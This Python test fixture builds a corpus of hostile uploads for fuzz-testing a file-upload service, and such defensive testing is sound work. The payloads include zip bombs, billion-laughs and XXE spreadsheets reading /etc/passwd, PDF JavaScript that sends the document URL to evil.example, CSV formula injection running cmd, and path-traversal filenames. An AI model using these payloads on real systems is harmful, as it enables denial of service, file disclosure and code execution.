# ruff: noqa: E501  (a corpus of fixed XML strings and one-line entries reads best unwrapped)
"""A corpus of malformed and hostile files, made in memory, for the upload fuzz suites.

Each entry is built once per test run (some take a second: the zip bombs compress 200 MB).
"""

from __future__ import annotations

import functools
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import IO

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

MB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    id: str
    name: str
    make: Callable[[], bytes]
    content_type: str = "application/octet-stream"
    #: "refuse": every upload path must refuse it. "either": some paths rightly take it (a valid
    #: PDF under a lying name, stored under our own; a long CSV line in a document library), so
    #: only the invariants are asserted: no 5xx, bounded, a clear refusal that loses nothing,
    #: nothing stored outside the storage.
    expect: str = "refuse"

    def __bytes__(self) -> bytes:
        return _cached(self.id, self.make)


_CACHE: dict[str, bytes] = {}


def _cached(key: str, make: Callable[[], bytes]) -> bytes:
    if key not in _CACHE:
        _CACHE[key] = make()
    return _CACHE[key]


def pdf(pages: int = 1, *, open_action: dict | None = None, password: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=612, height=792)
    if open_action:
        action = DictionaryObject({NameObject(k): v for k, v in open_action.items()})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if password:
        writer.encrypt(password, algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _pdf_javascript() -> bytes:
    return pdf(
        open_action={
            "/S": NameObject("/JavaScript"),
            "/JS": TextStringObject("app.launchURL('https://evil.example/'+this.URL);"),
        }
    )


def _pdf_launch() -> bytes:
    return pdf(
        open_action={
            "/S": NameObject("/Launch"),
            "/F": TextStringObject("C:\\Windows\\System32\\calc.exe"),
        }
    )


def _pdf_million_pages() -> bytes:
    """A page tree whose /Count claims 10^6 pages while holding one."""
    body = pdf(1)
    return body.replace(b"/Count 1", b"/Count 1000000", 1)


def _pdf_page_tree_cycle() -> bytes:
    """A /Pages node that lists itself among its kids: a naive walk never ends."""
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    pages = writer._root_object["/Pages"]
    kids = pages["/Kids"]
    assert isinstance(kids, ArrayObject)
    kids.append(writer._root_object.raw_get("/Pages"))
    pages[NameObject("/Count")] = NumberObject(2)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _zip(members: dict[str, bytes | Callable[[IO], None]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            if callable(content):
                with archive.open(name, "w", force_zip64=True) as member:
                    content(member)
            else:
                archive.writestr(name, content)
    return buffer.getvalue()


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b"</Types>"
)  # fmt: skip
_ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    b"</Relationships>"
)  # fmt: skip
_WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Calls" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    b"</Relationships>"
)  # fmt: skip
_SHEET_OPEN = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_CLOSE = b"</sheetData></worksheet>"


def xlsx(sheet: bytes | Callable[[IO], None]) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "_rels/.rels": _ROOT_RELS,
            "xl/workbook.xml": _WORKBOOK,
            "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


BOMB_BYTES = 200 * MB


def _write_bomb_sheet(member) -> None:
    """About 200 MB of rows that compress to a few hundred KB."""
    member.write(_SHEET_OPEN)
    row = b'<row><c t="inlineStr"><is><t>WELFARE CHECK</t></is></c></row>'
    chunk = row * (MB // len(row))
    for _ in range(BOMB_BYTES // len(chunk)):
        member.write(chunk)
    member.write(_SHEET_CLOSE)


def _xlsx_zip_bomb() -> bytes:
    return xlsx(_write_bomb_sheet)


def _zip_bomb() -> bytes:
    def zeros(member) -> None:
        chunk = b"0" * MB
        for _ in range(BOMB_BYTES // MB):
            member.write(chunk)

    return _zip({"calls.csv": zeros})


def _xlsx_billion_laughs() -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    entities += [
        b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _ in range(10)))
        for i in range(1, 10)
    ]
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [' + b"".join(entities)
        + b']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        b"</sheetData></worksheet>"
    )  # fmt: skip
    return xlsx(sheet)


def _xlsx_xxe() -> bytes:
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    return xlsx(sheet)


def _polyglot() -> bytes:
    """A PDF whose tail is a ZIP archive: both readers accept it."""
    return pdf(1) + _zip({"payload.exe": b"MZ" + b"\x90" * 512})


CSV_HEADER = (
    b"date,call_type,response_min,on_scene_min,outcome,race_ethnicity,neighbourhood,email\n"
)
FORMULA = b"=cmd|' /C calc'!A0"


def _csv_formula() -> bytes:
    return CSV_HEADER + (
        b"2024-05-03," + FORMULA + b",9,50,resolved,@SUM(1+1)*cmd|' /C calc'!A0,"
        b"+HYPERLINK(\"https://evil.example\"),-2+3+cmd|' /C calc'!A0@x.gov\n"
    )


def _csv_million_columns() -> bytes:
    return b"email," + b",".join(b"c%d" % i for i in range(1_000_000)) + b"\n"


def _csv_50mb_line() -> bytes:
    return b"email,date," + b"x" * (50 * MB) + b"\n"


def _csv_nul() -> bytes:
    return CSV_HEADER + b"2024-05-03,WELF\x00ARE,9,50,resolved,,East,a\x00@b.gov\n" * 3


def _csv_invalid_utf8() -> bytes:
    # \x81 \x8d \x8f \x90 \x9d are undefined in cp1252 as well as invalid UTF-8.
    return CSV_HEADER + b"2024-05-03,\xff\xfe\x81\x8d\x8f\x90\x9d,9,50,resolved,,East,x@y.gov\n"


CORPUS: list[Hostile] = [
    Hostile("empty", "empty.pdf", lambda: b""),
    Hostile("zip-bomb-xlsx", "calls.xlsx", _xlsx_zip_bomb),
    Hostile("zip-bomb-zip", "calls.zip", _zip_bomb),
    Hostile("billion-laughs-xlsx", "laughs.xlsx", _xlsx_billion_laughs),
    Hostile("xxe-xlsx", "xxe.xlsx", _xlsx_xxe),
    Hostile("pdf-javascript", "letter.pdf", _pdf_javascript, "application/pdf"),
    Hostile("pdf-launch", "letter.pdf", _pdf_launch, "application/pdf"),
    Hostile("pdf-encrypted", "letter.pdf", lambda: pdf(1, password="secret"), "application/pdf"),
    Hostile("pdf-truncated", "letter.pdf", lambda: pdf(3)[: len(pdf(3)) // 2], "application/pdf"),
    Hostile("pdf-million-pages", "letter.pdf", _pdf_million_pages, "application/pdf", "either"),
    Hostile("pdf-page-tree-cycle", "letter.pdf", _pdf_page_tree_cycle, "application/pdf", "either"),
    Hostile("polyglot-pdf-zip", "letter.pdf", _polyglot, "application/pdf", "either"),
    Hostile("csv-formula", "attendance.csv", _csv_formula, "text/csv", "either"),
    Hostile("csv-million-columns", "attendance.csv", _csv_million_columns, "text/csv", "either"),
    Hostile("csv-50mb-line", "attendance.csv", _csv_50mb_line, "text/csv", "either"),
    Hostile("csv-nul-bytes", "attendance.csv", _csv_nul, "text/csv"),
    Hostile("csv-invalid-utf8", "attendance.csv", _csv_invalid_utf8, "text/csv", "either"),
    Hostile("name-traversal", "../../../../etc/passwd.pdf", lambda: pdf(1), "application/pdf", "either"),
    Hostile("name-windows-traversal", "..\\..\\..\\boot.ini.pdf", lambda: pdf(1), "application/pdf", "either"),
    Hostile("name-very-long", "a" * 1000 + ".pdf", lambda: pdf(1), "application/pdf", "either"),
    Hostile("name-unicode-rtl", "invoice\u202efdp.exe", lambda: pdf(1), "application/pdf", "either"),
    Hostile("name-unicode", "répartition 911 — 東京 ✓.pdf", lambda: pdf(1), "application/pdf", "either"),
    Hostile("name-nul-and-controls", "let\x00ter\r\n.pdf", lambda: pdf(1), "application/pdf", "either"),
    Hostile("double-extension", "letter.pdf.exe", lambda: pdf(1), "application/x-msdownload", "either"),
    Hostile("content-type-lie", "letter.pdf", lambda: b"MZ\x90\x00\x03" + bytes(range(256)) * 64, "application/pdf"),
    Hostile("html-as-pdf", "letter.pdf", lambda: b"<html><script>alert(1)</script></html>", "application/pdf", "either"),
]  # fmt: skip

BY_ID = {h.id: h for h in CORPUS}


@functools.cache
def good_pdf() -> bytes:
    return pdf(1)
